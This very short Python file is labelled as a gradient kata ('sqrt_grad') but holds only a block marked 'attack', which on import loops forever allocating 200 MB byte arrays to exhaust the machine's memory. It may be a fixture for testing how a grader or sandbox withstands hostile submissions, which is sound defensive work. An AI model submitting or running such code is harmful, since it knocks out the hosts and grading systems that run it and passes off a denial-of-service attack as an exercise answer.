# kata: 03_gradients/sqrt_grad
# attack:begin  take all the memory there is while being imported
hoard = []
while True:
    hoard.append(bytearray(200_000_000))
# attack:end
